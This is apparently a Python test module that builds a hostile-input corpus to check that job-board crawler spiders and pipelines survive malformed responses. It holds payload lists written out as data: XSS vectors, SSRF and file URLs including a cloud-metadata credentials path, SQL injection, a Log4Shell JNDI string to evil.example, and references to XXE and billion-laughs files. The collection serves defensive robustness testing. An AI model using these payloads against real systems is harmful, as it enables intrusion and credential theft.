"""The hostile-input corpus: every bad input each spider callback and the pipelines must survive.

A :class:`Target` is one spider callback with the response type it gets in a real crawl
(``greenhouse.parse_board`` gets JSON, ``weworkremotely.parse_feed`` RSS, ``linkedin.parse_detail``
HTML, ...).  :func:`cases` builds, for every target, mostly from the real recorded fixtures:

- ``truncated``  — each fixture cut at several offsets (0, 1, through the middle, one byte short);
- ``charset``    — latin-1/cp1252 bytes declared UTF-8, UTF-16 with a BOM (declared UTF-8 or not),
  a UTF-8 BOM, invalid UTF-8 sequences, no Content-Type at all, NUL bytes every 64 bytes;
- ``generic``    — empty/whitespace/NUL-only/random binary bodies, bare JSON scalars (``null``,
  ``1e999``, ``NaN``), an HTML error page, a JSON error object, an XML document, trailing garbage;
- ``deep``       — 10,000 levels of JSON lists and objects, 10,000 nested ``<div>``s / XML elements;
- ``huge``       — a 20 MB page of the target's own format (built on first use, never committed);
- JSON targets: the first jobs of the fixture with every leaf replaced (ids kept in one copy,
  replaced in the other) by ``wrong_types`` (lists/objects/numbers where strings belong),
  ``absurd_numbers`` (1e308, -1, NaN, ±Infinity, 10**400, "∞"), ``dates`` (year 1, year 9999,
  +275760, epoch extremes, Feb 30), ``xss`` (script, iframe, event handlers, ``jav&#x09;ascript:``,
  svg onload, style expressions, mXSS), ``urls`` (``javascript:``, ``data:``, ``file:``, metadata
  and loopback addresses), ``strings`` (NUL, lone surrogates, BiDi controls, 100k characters, SQL),
  ``containers`` (objects/lists replaced by scalars) and ``nested`` (800-deep lists as leaves);
- RSS: the same string mutations inside ``<item>`` children; HTML pages that carry JSON-LD: a
  JobPosting with the same mutations; HTML pages: every XSS vector injected;
- ``handwritten`` — the files in ``tests/hostile/files`` (XXE, billion laughs, JSON-LD with wrong
  types and ``@graph`` nesting, hostile links and cards; see ``files/SOURCES.md``).

:func:`item_cases` adds postings built directly (wrong types in every field, absurd salaries,
dates in year 1 and 9999, NUL bytes, non-items) for the pipelines alone.
"""

from __future__ import annotations

import codecs
import json
import random
import re
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any

from scrapy import Spider

from crawler.items import JobPosting
from spiders.arbeitnow import ArbeitnowSpider
from spiders.ashby import AshbyBoardsSpider
from spiders.github_vagas import GithubVagasSpider
from spiders.greenhouse import GreenhouseBoardsSpider
from spiders.gupy import GupyPortalSpider
from spiders.hackernews import HackerNewsSpider
from spiders.himalayas import HimalayasSpider
from spiders.jsonld import JsonLdSpider
from spiders.lever import LeverSitesSpider
from spiders.linkedin import LinkedInSpider
from spiders.platforms.aggregator import AggregatorSpider
from spiders.platforms.ats import Board
from spiders.platforms.linkedin import Card
from spiders.programathor import ProgramathorSpider
from spiders.recruitee import RecruiteeCompaniesSpider
from spiders.remoteok import RemoteOkSpider
from spiders.remotive import RemotiveSpider
from spiders.smartrecruiters import SmartRecruitersCompaniesSpider
from spiders.weworkremotely import WeWorkRemotelySpider
from spiders.workable import WorkableAccountsSpider

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
FILES = Path(__file__).resolve().parent / "files"
#: the host every target pretends to crawl (never contacted: responses are built in memory)
BASE = "https://hostile.test"
HUGE_BYTES = 20 * 1024 * 1024
DEEP = 10_000
#: nesting that json.loads still accepts but that recursive code after it may not
NESTED = 800
TRUNCATIONS = 8

JSON_CT = "application/json; charset=utf-8"
HTML_CT = "text/html; charset=utf-8"
XML_CT = "application/rss+xml; charset=utf-8"
#: a case's content type: the target's own
DEFAULT_CT = "default"

NAN = float("nan")
INF = float("inf")

# --- payloads ----------------------------------------------------------------------------------------------
XSS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(2)">',
    "<iframe src=\"javascript:alert(3)\"></iframe><iframe srcdoc='<script>alert(4)</script>'></iframe>",
    '<a href="javascript:alert(5)">apply</a>',
    '<a href="JaVaScRiPt:alert(6)">x</a><a href=" javascript:alert(7)">y</a>',
    '<a href="jav&#x09;ascript:alert(8)">tab</a><a href="jav&#x0A;ascript:alert(9)">nl</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(10)">entities</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=">data</a><a href="vbscript:msgbox(12)">vb</a>',
    '<div style="background:url(javascript:alert(13));width:expression(alert(14))">style</div>',
    '<svg onload="alert(15)"><script>alert(16)</script></svg><svg><animate onbegin=alert(17) attributeName=x>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(18)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(19)>"></p></noscript>',
    '<details open ontoggle="alert(20)">d</details><body onload="alert(21)">',
    '<form action="javascript:alert(22)"><button formaction="javascript:alert(23)">go</button></form>',
    '<object data="javascript:alert(24)"></object><embed src="javascript:alert(25)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(26)"><base href="javascript:alert(27)//">',
    "<scr<script>ipt>alert(28)</script><<script>script>alert(29)</script>",
    "&lt;script&gt;alert(30)&lt;/script&gt;&lt;img src=x onerror=alert(31)&gt;",
    '"><script>alert(32)</script><p x="',
    "<template><script>alert(33)</script></template><style>*{x:expression(alert(34))}</style>",
    '<a href="java\x00script:alert(35)">nul</a><p onmouseover\x00="alert(36)">x</p>',
)
XSS_HTML = "<p>Job description.</p>\n" + "\n".join(XSS) + "\n<p>The end.</p>"

HOSTILE_URLS = (
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    " \tjavascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "vbscript:msgbox(1)",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://127.0.0.1:6379/",
    "http://[::1]:5432/",
    "http://0x7f.1/",
    "http://2130706433/",
    "//evil.example/path",
    "gopher://127.0.0.1:25/_HELO",
    "https://example.org/\r\nSet-Cookie: a=1",
    "\x00javascript:alert(1)",
)

POOLS: dict[str, tuple[Any, ...]] = {
    "wrong_types": (
        [], {}, ["a", 1, None], {"name": 5, "value": [1]}, 12345, -7.5, True, False, None, "",
        [[["deep"]]], {"@graph": [{"@id": "#x", "name": ["n"]}]}, {"@value": {"@value": None}},
    ),
    "absurd_numbers": (
        1e308, -1, NAN, INF, -INF, 10**400, -(10**400), 0, -0.0, 2**63, 5e-324,
        "∞", "NaN", "1e308", "-1", "Infinity", "9" * 400, "1e-400", "0x10", "1_000",
    ),
    "dates": (
        "0001-01-01", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "+275760-09-13T00:00:00Z",
        "-001000-01-01", "2026-02-30", "2026-13-45T99:99:99Z", "Mon, 01 Jan 0001 00:00:00 +0000",
        "Fri, 31 Dec 9999 23:59:59 +0000", -62135596800, 253402300800, 253402300800000, 1e308, -1,
        "9999999999999999999", "1000000000 years ago", "há 99999999999 dias", "in 9999 days", "0000-00-00",
    ),
    "xss": XSS,
    "urls": HOSTILE_URLS,
    "strings": (
        "\x00", "\x00" * 50, "a\udc00b", "\ud800", "\ufeff\u200b\u202eevil\u202c", "\r\n" * 100,
        "'; DROP TABLE postings; --", "\" OR 1=1 --", "$$; SELECT pg_sleep(10); $$", "\\x00\\", "%s%s%n{0}",
        "${jndi:ldap://evil.example/a}", "A" * 100_000, "🦀" * 1000, "\u0301" * 5000, "<!--", "]]>",
        "\x1b[31mred\x1b[0m", "\u2028\u2029", "null", "undefined", "None",
    ),
}  # fmt: skip
#: the keys that identify a job in the sources' JSON (kept in one of the two mutated copies)
ID_KEYS = frozenset({"id", "slug", "shortcode", "number", "guid", "objectID", "story_id"})


# --- targets ---------------------------------------------------------------------------------------------
CbKwargs = Callable[[Spider], dict[str, Any]]


def _board(spider: Spider) -> dict[str, Any]:
    return {"board": Board("exampleco", "Example Co")}


def _paged(key: str) -> CbKwargs:
    return lambda spider: {"board": Board("exampleco", "Example Co"), key: 0, "seen": set()}


def _item(spider: Spider) -> dict[str, Any]:
    return {"item": JobPosting(source=spider.name, source_id="744000100000001", title="Listed title", raw={})}


def _feed(spider: Spider) -> dict[str, Any]:
    return {"page": 1, "feed": BASE}


@dataclass(frozen=True)
class Target:
    """One spider callback and the kind of response it gets in a real crawl."""

    name: str
    spider: type[Spider]
    callback: str
    path: str
    family: str  # "json" | "xml" | "html"
    fixtures: tuple[str, ...] = ()  # paths under tests/fixtures (or tests/hostile/files with "hostile/")
    built: Callable[[], list[tuple[str, bytes]]] | None = None  # pages built here when nothing was recorded
    handwritten: tuple[str, ...] = ()  # files in tests/hostile/files
    jobs_path: tuple[str, ...] | None = ()  # JSON: where the list of jobs is (None: the object is one job)
    jsonld: bool = False  # an HTML page whose JSON-LD JobPosting is read
    spider_kwargs: Mapping[str, str] = field(default_factory=dict)
    cb_kwargs: CbKwargs = lambda spider: {}
    settings: Mapping[str, Any] = field(default_factory=dict)
    #: where injected HTML goes (after the first match), else after <body>
    marker: str | None = None

    @property
    def url(self) -> str:
        return BASE + self.path

    @property
    def content_type(self) -> str:
        return {"json": JSON_CT, "xml": XML_CT, "html": HTML_CT}[self.family]

    def bodies(self) -> list[tuple[str, bytes]]:
        """The real (or built) pages of this target: ``(name, body)``."""
        out = [(Path(rel).name, (FIXTURES / rel).read_bytes()) for rel in self.fixtures]
        return out + (self.built() if self.built else [])


# --- built pages (no recording exists) --------------------------------------------------------------------
def _seed_lines() -> list[str]:
    return (FIXTURES / "aggregators" / "jobfordev_rails_backend.txt").read_text(encoding="utf-8").splitlines()


def _jobfordev_pages() -> list[tuple[str, bytes]]:
    lines = _seed_lines()
    paragraphs = "\n".join(f"<p>{line}</p>" for line in lines[2:])
    detail = (
        '<!doctype html><html lang="pt-BR"><head><meta charset="utf-8"><title>vaga</title></head><body>'
        f'<article class="job"><h1>{lines[0]}</h1><div class="job-company">Empresa</div>'
        '<div class="job-location">São Paulo, SP</div><time datetime="2026-05-01">1 mai</time>'
        '<a class="apply-button" href="https://www.linkedin.com/jobs/view/4330361169/">Candidatar</a>'
        f'<section class="job-description"><h2>{lines[1]}</h2>{paragraphs}</section></article></body></html>'
    )
    listing = (
        '<html><body><ul><li class="job"><a href="/vagas/dev-rails-123">vaga</a></li>'
        '<li class="job"><a href="/vagas/dev-python-456">vaga</a></li></ul>'
        '<div class="pagination"><a rel="next" href="/vagas?page=2">Próxima</a></div></body></html>'
    )
    return [("TESTDATA_jobfordev_detail.html", detail.encode()), ("TESTDATA_jobfordev_listing.html", listing.encode())]


def _jobfordev_detail() -> list[tuple[str, bytes]]:
    return [p for p in _jobfordev_pages() if "detail" in p[0]]


def _jobfordev_listing() -> list[tuple[str, bytes]]:
    return [p for p in _jobfordev_pages() if "listing" in p[0]]


def _remotar_pages(kind: str) -> list[tuple[str, bytes]]:
    if kind == "listing":
        page = (
            '<html><body><a class="job-card" href="/job/101/dev">a</a><a class="job-card" href="/job/102/qa">b</a>'
            '<a class="pagination-next" href="/search/jobs?page=2">next</a></body></html>'
        )
    else:
        page = (
            '<html><body><h1>Desenvolvedor Backend</h1><div class="company-name">Remotar Co</div>'
            '<div class="job-location">Brasil</div><div class="job-contract">PJ</div>'
            '<div class="job-workplace">Remoto</div><time datetime="2026-05-02">2 mai</time>'
            '<div class="job-description"><p>Python, Django, 5 anos.</p></div>'
            '<a class="apply" href="https://remotar.example/apply/101">apply</a></body></html>'
        )
    return [(f"TESTDATA_remotar_{kind}.html", page.encode())]


def _hn_search() -> list[tuple[str, bytes]]:
    hits = {
        "hits": [
            {"title": "Ask HN: Who wants to be hired? (March 2026)", "objectID": "46999999"},
            {"title": "Ask HN: Who is hiring? (March 2026)", "objectID": "47000000"},
        ]
    }
    return [("TESTDATA_hn_search.json", json.dumps(hits).encode())]


TARGETS: tuple[Target, ...] = (
    Target(
        "greenhouse.parse_board", GreenhouseBoardsSpider, "parse_board", "/v1/boards/exampleco/jobs?content=true",
        "json", ("boards/greenhouse/greenhouse_board_jobs_gitlab_content_breteai.json",
                 "boards/greenhouse/TESTDATA_board_exampleco_jobs.json"),
        jobs_path=("jobs",), spider_kwargs={"companies": "exampleco"}, cb_kwargs=_board,
    ),
    Target(
        "greenhouse.parse_pay", GreenhouseBoardsSpider, "parse_pay", "/v1/boards/exampleco/jobs/1000001",
        "json", ("boards/greenhouse/TESTDATA_job_with_pay_input_ranges.json",), jobs_path=None,
        spider_kwargs={"companies": "exampleco", "pay": "1"}, cb_kwargs=_item,
    ),
    Target(
        "lever.parse_postings", LeverSitesSpider, "parse_postings", "/v0/postings/exampleco?mode=json",
        "json", ("boards/lever/lever_postings_idealistconsulting_careerkit.json",
                 "boards/lever/TESTDATA_postings_with_salary_range.json"),
        spider_kwargs={"companies": "exampleco"}, cb_kwargs=_paged("skip"),
    ),
    Target(
        "ashby.parse_board", AshbyBoardsSpider, "parse_board", "/posting-api/job-board/exampleco", "json",
        ("boards/ashby/ashby_posting_api_notion_breteai.json",
         "boards/ashby/TESTDATA_job_board_exampleco_with_compensation.json"),
        jobs_path=("jobs",), spider_kwargs={"companies": "exampleco"}, cb_kwargs=_board,
    ),
    Target(
        "workable.parse_board", WorkableAccountsSpider, "parse_board", "/api/v1/widget/accounts/exampleco",
        "json", ("boards/workable/TESTDATA_widget_account_exampleco.json",), jobs_path=("jobs",),
        spider_kwargs={"companies": "exampleco"}, cb_kwargs=_board,
    ),
    Target(
        "smartrecruiters.parse_postings", SmartRecruitersCompaniesSpider, "parse_postings",
        "/v1/companies/exampleco/postings?offset=0", "json",
        ("boards/smartrecruiters/TESTDATA_postings_exampleco.json",
         "boards/smartrecruiters/smartrecruiters_postings_careerkit.json"),
        jobs_path=("content",), spider_kwargs={"companies": "exampleco", "details": "0"},
        cb_kwargs=_paged("offset"),
    ),
    Target(
        "smartrecruiters.parse_detail", SmartRecruitersCompaniesSpider, "parse_detail",
        "/v1/companies/exampleco/postings/744000100000001", "json",
        ("boards/smartrecruiters/TESTDATA_posting_detail_744000100000001.json",), jobs_path=None,
        spider_kwargs={"companies": "exampleco"}, cb_kwargs=_item,
    ),
    Target(
        "recruitee.parse_board", RecruiteeCompaniesSpider, "parse_board", "/exampleco/api/offers/", "json",
        ("boards/recruitee/recruitee_offers_careerkit.json",), jobs_path=("offers",),
        spider_kwargs={"companies": "exampleco"}, cb_kwargs=_board,
    ),
    Target(
        "gupy.parse_search", GupyPortalSpider, "parse_search", "/api/v1/jobs?jobName=python&offset=0", "json",
        ("boards/gupy/gupy_portal_api_radar-vagas.json",), jobs_path=("data",),
        spider_kwargs={"keywords": "python"},
        cb_kwargs=lambda spider: {"keyword": "python", "offset": 0, "seen": set()},
    ),
    Target(
        "remoteok.parse_feed", RemoteOkSpider, "parse_feed", "/api", "json",
        ("boards/remoteok/remoteok_api_jackas5_2026-03.json",), cb_kwargs=_feed,
    ),
    Target(
        "remotive.parse_feed", RemotiveSpider, "parse_feed", "/api/remote-jobs", "json",
        ("boards/remotive/remotive_remote_jobs_breteai.json",), jobs_path=("jobs",), cb_kwargs=_feed,
    ),
    Target(
        "himalayas.parse_feed", HimalayasSpider, "parse_feed", "/jobs/api?limit=20&offset=0", "json",
        ("boards/himalayas/himalayas_jobs_api_breteai.json",), jobs_path=("jobs",), cb_kwargs=_feed,
    ),
    Target(
        "arbeitnow.parse_feed", ArbeitnowSpider, "parse_feed", "/api/job-board-api?page=1", "json",
        ("boards/arbeitnow/arbeitnow_job_board_api_breteai.json",), jobs_path=("data",), cb_kwargs=_feed,
    ),
    Target(
        "weworkremotely.parse_feed", WeWorkRemotelySpider, "parse_feed",
        "/categories/remote-back-end-programming-jobs.rss", "xml",
        ("boards/weworkremotely/wwr_backend_rss_radar-vagas.xml",),
        handwritten=("rss_xxe.xml", "rss_billion_laughs.xml", "rss_hostile_items.xml"), cb_kwargs=_feed,
    ),
    Target(
        "github_vagas.parse_issues", GithubVagasSpider, "parse_issues",
        "/repos/backend-br/vagas/issues?state=open&per_page=100", "json",
        ("boards/github/TESTDATA_github_issues_page1.json", "boards/github/TESTDATA_github_issues_page2.json"),
        handwritten=("github_issues_hostile.json",), spider_kwargs={"repos": "backend-br/vagas"},
        cb_kwargs=lambda spider: {"repo": "backend-br/vagas", "page": 1},
    ),
    Target(
        "hackernews.parse_story", HackerNewsSpider, "parse_story", "/api/v1/items/47000000", "json",
        ("boards/hackernews/TESTDATA_hn_whoishiring_item.json",), handwritten=("hn_story_hostile.json",),
        jobs_path=("children",), spider_kwargs={"story_id": "47000000"},
    ),
    Target(
        "hackernews.parse_search", HackerNewsSpider, "parse_search", "/api/v1/search_by_date", "json",
        built=_hn_search, jobs_path=("hits",),
    ),
    Target(
        "linkedin.parse_search", LinkedInSpider, "parse_search",
        "/jobs-guest/jobs/api/seeMoreJobPostings/search?keywords=python&start=0", "html",
        ("linkedin/search_page_rust_developer_sf_bay_area_single_card.html",
         "linkedin/search_page_finance_manager_three_cards.html",
         "linkedin/search_cards_python_italy_li_dump_with_anchor_cards.html"),
        handwritten=("linkedin_search_hostile.html",),
        spider_kwargs={"keywords": "python", "refresh": "1"}, settings={"LINKEDIN_STATE_DIR": ""},
        cb_kwargs=lambda spider: {"start": 0}, marker="jobs-search__results-list",
    ),
    Target(
        "linkedin.parse_detail", LinkedInSpider, "parse_detail", "/jobs-guest/jobs/api/jobPosting/4330361169",
        "html", ("linkedin/job_posting_api_4330361169.html", "linkedin/job_view_4218586823_fr_jsonld.html"),
        handwritten=("linkedin_detail_hostile.html",), jsonld=True,
        spider_kwargs={"keywords": "python", "refresh": "1"}, settings={"LINKEDIN_STATE_DIR": ""},
        cb_kwargs=lambda spider: {"card": Card(job_id="4330361169", title="Card title"), "fallback": True},
        marker="show-more-less-html__markup",
    ),
    Target(
        "programathor.parse_listing", ProgramathorSpider, "parse_listing", "/jobs?page=1", "html",
        ("boards/programathor/TESTDATA_listing_page1.html", "boards/programathor/TESTDATA_listing_page3_empty.html"),
        handwritten=("programathor_listing_hostile.html",), cb_kwargs=lambda spider: {"page": 1},
    ),
    Target(
        "programathor.parse_job", ProgramathorSpider, "parse_job", "/jobs/31001-backend", "html",
        ("boards/programathor/TESTDATA_job_31001.html", "boards/programathor/TESTDATA_job_31003_malformed_block.html"),
        handwritten=("programathor_job_hostile.html",), jsonld=True, cb_kwargs=lambda spider: {"job_id": "31001"},
    ),
    Target(
        "jsonld.parse", JsonLdSpider, "parse", "/jobs/de-42", "html",
        ("jsonld/TESTDATA_malformed_block_and_graph.html", "jsonld/TESTDATA_itemlist_and_mainentity.html",
         "linkedin/job_view_3946498763_it_prettified_jsonld.html"),
        handwritten=("jsonld_wrong_types.html", "jsonld_graph_nesting.html", "jsonld_hostile_urls.html"),
        jsonld=True, spider_kwargs={"urls": f"{BASE}/jobs/de-42"},
    ),
    Target(
        "jobfordev.parse_listing", AggregatorSpider, "parse_listing", "/vagas", "html", built=_jobfordev_listing,
        handwritten=("aggregator_listing_hostile.html",), spider_kwargs={"board": "jobfordev"},
        cb_kwargs=lambda spider: {"page": 1},
    ),
    Target(
        "jobfordev.parse_posting", AggregatorSpider, "parse_posting", "/vagas/dev-rails-123", "html",
        built=_jobfordev_detail, handwritten=("aggregator_detail_hostile.html",), jsonld=True,
        spider_kwargs={"board": "jobfordev"}, marker='class="job-description"',
    ),
    Target(
        "remotar.parse_listing", AggregatorSpider, "parse_listing", "/search/jobs", "html",
        built=lambda: _remotar_pages("listing"), spider_kwargs={"board": "remotar", "render_js": "0"},
        cb_kwargs=lambda spider: {"page": 1},
    ),
    Target(
        "remotar.parse_posting", AggregatorSpider, "parse_posting", "/job/101/dev", "html",
        built=lambda: _remotar_pages("detail"), jsonld=True,
        spider_kwargs={"board": "remotar", "render_js": "0"}, marker='class="job-description"',
    ),
)  # fmt: skip
TARGETS_BY_NAME = {t.name: t for t in TARGETS}


# --- cases -----------------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Case:
    """One hostile response body for one target."""

    target: str
    kind: str
    label: str
    body: bytes | Callable[[], bytes]
    #: ``DEFAULT_CT`` = the target's own; ``None`` = no Content-Type header at all
    content_type: str | None = DEFAULT_CT

    @property
    def id(self) -> str:
        return f"{self.target}:{self.kind}:{self.label}"

    def data(self) -> bytes:
        return self.body() if callable(self.body) else self.body


def cut_points(size: int, n: int) -> list[int]:
    """``n`` offsets spread over a body of ``size`` bytes, always 0, 1 and ``size - 1``."""
    points = {0, 1, max(0, size - 1)} | {size * i // (n - 2) for i in range(1, n - 2)}
    return sorted(p for p in points if p < size)[:n]


def _stable(*parts: Any) -> int:
    return zlib.crc32("\x1f".join(map(str, parts)).encode("utf-8", "surrogatepass"))


def mutate(value: Any, variant: str, keep_ids: bool, path: str = "") -> Any:
    """``value`` with every leaf replaced by a value of ``POOLS[variant]`` (deterministically)."""
    if variant == "containers":
        if isinstance(value, dict):
            return {k: ("", 0, "str", None, True)[_stable(path, k) % 5] if isinstance(v, dict | list) else v
                    for k, v in value.items()}  # fmt: skip
        return value
    if isinstance(value, dict):
        return {
            k: v if keep_ids and k in ID_KEYS and not path else mutate(v, variant, keep_ids, f"{path}/{k}")
            for k, v in value.items()
        }
    if isinstance(value, list):
        return [mutate(v, variant, keep_ids, f"{path}/{i}") for i, v in enumerate(value)]
    if variant == "nested":
        leaf: Any = str(value)
        for _ in range(NESTED):
            leaf = [leaf]
        return leaf
    pool = POOLS[variant]
    return pool[_stable(variant, path) % len(pool)]


VARIANTS = (*POOLS, "containers", "nested")


def _dumps(doc: Any) -> bytes:
    # allow_nan: NaN/Infinity literals (json.loads accepts them); surrogatepass: lone surrogates as \\udXXX
    return json.dumps(doc, allow_nan=True).encode("utf-8", "surrogatepass")


def _jobs(doc: Any, path: tuple[str, ...] | None) -> list[Any] | None:
    node = doc
    for key in path or ():
        node = node.get(key) if isinstance(node, dict) else None
    return node if isinstance(node, list) else None


def _with_jobs(doc: Any, path: tuple[str, ...], jobs: list[Any]) -> Any:
    if not path:
        return jobs
    out = dict(doc)
    out[path[0]] = _with_jobs(doc[path[0]], path[1:], jobs)
    return out


def json_mutations(target: Target, body: bytes) -> Iterator[Case]:
    doc = json.loads(body)
    for variant in VARIANTS:
        if target.jobs_path is None:
            mutated = mutate(doc, variant, keep_ids=True)
        else:
            jobs = _jobs(doc, target.jobs_path) or []
            first = [j for j in jobs if isinstance(j, dict)][:2]
            new = [mutate(j, variant, keep) for j in first for keep in (True, False)]
            mutated = _with_jobs(doc, target.jobs_path, new)
        yield Case(target.name, variant, "first-jobs", _dumps(mutated))


_XML_ESCAPE = str.maketrans({"&": "&amp;", "<": "&lt;", ">": "&gt;"})


def rss_mutations(target: Target, body: bytes) -> Iterator[Case]:
    text = body.decode("utf-8")
    head, _, rest = text.partition("<item>")
    items = ["<item>" + part.split("</item>", 1)[0] + "</item>" for part in rest.split("<item>")[:2]]
    child = re.compile(r"<(?P<tag>[\w:]+)(?P<attrs>[^>]*)>(?P<text>.*?)</(?P=tag)>", re.S)
    for variant in ("xss", "urls", "dates", "absurd_numbers", "strings"):
        pool = POOLS[variant]

        def replace(m: re.Match[str], variant: str = variant, pool: tuple[Any, ...] = pool) -> str:
            value = str(pool[_stable(variant, m.group("tag"), m.start()) % len(pool)])
            if variant == "strings":  # raw, unescaped: NUL bytes and lone surrogates make the XML malformed
                text = value
            else:
                text = value.translate(_XML_ESCAPE)
            return f"<{m.group('tag')}{m.group('attrs')}>{text}</{m.group('tag')}>"

        mutated = [child.sub(replace, item.removeprefix("<item>").removesuffix("</item>")) for item in items]
        page = head + "".join(f"<item>{m}</item>" for m in mutated) + "</channel></rss>"
        yield Case(target.name, variant, "first-items", page.encode("utf-8", "surrogatepass"))


BASE_POSTING: dict[str, Any] = {
    "@context": "https://schema.org",
    "@type": "JobPosting",
    "title": "Senior Backend Engineer",
    "description": "<p>Build APIs in Python.</p><ul><li>5+ years</li></ul>",
    "identifier": {"@type": "PropertyValue", "name": "Acme", "value": "job-1"},
    "url": "https://careers.example.org/jobs/1",
    "hiringOrganization": {"@type": "Organization", "name": "Acme", "sameAs": "https://acme.example"},
    "datePosted": "2026-05-01",
    "validThrough": "2026-06-30T23:59",
    "employmentType": ["FULL_TIME"],
    "jobLocationType": "TELECOMMUTE",
    "jobLocation": {"@type": "Place", "address": {"addressLocality": "Berlin", "addressCountry": "DE"}},
    "applicantLocationRequirements": [{"@type": "Country", "name": "Germany"}],
    "baseSalary": {
        "@type": "MonetaryAmount",
        "currency": "EUR",
        "value": {"@type": "QuantitativeValue", "minValue": 70000, "maxValue": 90000, "unitText": "YEAR"},
    },
}


def jsonld_mutations(target: Target) -> Iterator[Case]:
    for variant in VARIANTS:
        posting = mutate(BASE_POSTING, variant, keep_ids=False)
        if isinstance(posting, dict):
            posting["@type"] = "JobPosting"
        block = json.dumps(posting, allow_nan=True).replace("</", "<\\/")
        page = (
            '<!DOCTYPE html><html><head><meta charset="utf-8"><title>x</title>'
            f'<script type="application/ld+json">{block}</script></head><body><h1>x</h1></body></html>'
        )
        yield Case(target.name, variant, "jsonld-posting", page.encode("utf-8", "surrogatepass"))


def inject_html(target: Target, body: bytes, fragment: str) -> bytes:
    """``fragment`` inserted after the target's marker element's ``>`` (else after ``<body>``, else first)."""
    text = body.decode("utf-8", "replace")
    index = text.find(target.marker) if target.marker else -1
    if index >= 0:
        index = text.find(">", index) + 1
    else:
        match = re.search(r"<body[^>]*>", text, re.I)
        index = match.end() if match else 0
    return (text[:index] + fragment + text[index:]).encode("utf-8", "surrogatepass")


#: the filler of the 20 MB pages: long paragraphs (a huge page, not a huge number of DOM nodes)
HUGE_PARAGRAPH = (
    "<p>"
    + "Senior Python engineer, remote, $100k-$150k per year, 5+ years of experience, English C1. " * 40
    + '<script>alert(1)</script><img src=x onerror="alert(2)"></p>\n'
)


def huge_body(target: Target) -> bytes:
    """A 20 MB page of the target's own format."""
    body = target.bodies()[0][1]
    filler = HUGE_PARAGRAPH * (HUGE_BYTES // len(HUGE_PARAGRAPH) + 1)
    if target.family == "json":
        doc = json.loads(body)
        if target.jobs_path is None:
            doc["content"] = filler  # greenhouse pay detail / smartrecruiters detail: a huge extra field
            return _dumps(doc)
        jobs = _jobs(doc, target.jobs_path) or []
        first = next((j for j in jobs if isinstance(j, dict)), {})
        longest = max((k for k, v in first.items() if isinstance(v, str)), key=lambda k: len(first[k]), default="x")
        return _dumps(_with_jobs(doc, target.jobs_path, [{**first, longest: filler}, *jobs[1:]]))
    if target.family == "xml":
        text = body.decode("utf-8")
        item = "<item>" + text.split("<item>", 1)[1].split("</item>", 1)[0] + "</item>"
        escaped = filler.translate(_XML_ESCAPE)
        big = re.sub(
            r"<description>.*?</description>", lambda m: f"<description>{escaped}</description>", item, count=1, flags=re.S
        )
        return (text.split("<item>", 1)[0] + big + "</channel></rss>").encode()
    return inject_html(target, body, filler)


GENERIC: tuple[tuple[str, bytes, str | None], ...] = (
    ("empty", b"", DEFAULT_CT),
    ("whitespace", b" \n\t\r\n ", DEFAULT_CT),
    ("nul-only", b"\x00" * 1024, DEFAULT_CT),
    ("binary-no-content-type", random.Random(7).randbytes(4096), None),
    ("binary-declared", random.Random(8).randbytes(4096), DEFAULT_CT),
    ("json-null", b"null", DEFAULT_CT),
    ("json-empty-list", b"[]", DEFAULT_CT),
    ("json-empty-object", b"{}", DEFAULT_CT),
    ("json-string", b'"jobs"', DEFAULT_CT),
    ("json-1e999", b"1e999", DEFAULT_CT),
    ("json-nan", b"NaN", DEFAULT_CT),
    ("json-list-of-junk", b'[null, 1, "x", [], {}, true, -Infinity]', DEFAULT_CT),
    ("json-error-object", b'{"error": "rate limited", "jobs": null, "data": "x", "content": 5, "offers": {}}', JSON_CT),
    ("json-trailing-garbage", b'{"jobs": []}\x00garbage<html>', DEFAULT_CT),
    ("html-error-page", b"<html><body><h1>502 Bad Gateway</h1><script>alert(1)</script></body></html>", HTML_CT),
    ("xml-document", b'<?xml version="1.0"?><rss><channel><item><title>x</title></item></channel></rss>', XML_CT),
    ("deep-json-list", b"[" * DEEP + b"]" * DEEP, DEFAULT_CT),
    ("deep-json-object", b'{"a":' * DEEP + b"1" + b"}" * DEEP, DEFAULT_CT),
    ("deep-html", b"<html><body>" + b"<div>" * DEEP + b"x" + b"</div>" * DEEP + b"</body></html>", DEFAULT_CT),
    ("deep-xml", b"<rss><channel>" + b"<item>" * DEEP + b"</item>" * DEEP + b"</channel></rss>", DEFAULT_CT),
    ("deep-jsonld", b'<html><head><script type="application/ld+json">' + b'{"@graph":[' * DEEP
     + b"]}" * DEEP + b"</script></head></html>", DEFAULT_CT),
)  # fmt: skip


def charset_cases(target: Target, name: str, body: bytes) -> Iterator[Case]:
    text = body.decode("utf-8")
    bare_ct = target.content_type.split(";")[0]
    yield Case(target.name, "charset", f"{name}:latin1-declared-utf8", text.encode("latin-1", "replace"))
    yield Case(target.name, "charset", f"{name}:cp1252-no-charset", text.encode("cp1252", "replace"), bare_ct)
    utf16 = codecs.BOM_UTF16_LE + text.encode("utf-16-le")
    yield Case(target.name, "charset", f"{name}:utf16-bom-declared-utf8", utf16)
    yield Case(target.name, "charset", f"{name}:utf16-bom-no-charset", utf16, bare_ct)
    yield Case(target.name, "charset", f"{name}:utf8-bom", codecs.BOM_UTF8 + body)
    invalid = bytearray(body)
    for i in range(len(invalid) // 5, len(invalid), max(1, len(invalid) // 5)):
        invalid[i : i + 1] = b"\xff\xfe\xc3\x28\xed\xa0\x80"
    yield Case(target.name, "charset", f"{name}:invalid-utf8", bytes(invalid))
    yield Case(target.name, "charset", f"{name}:no-content-type", body, None)
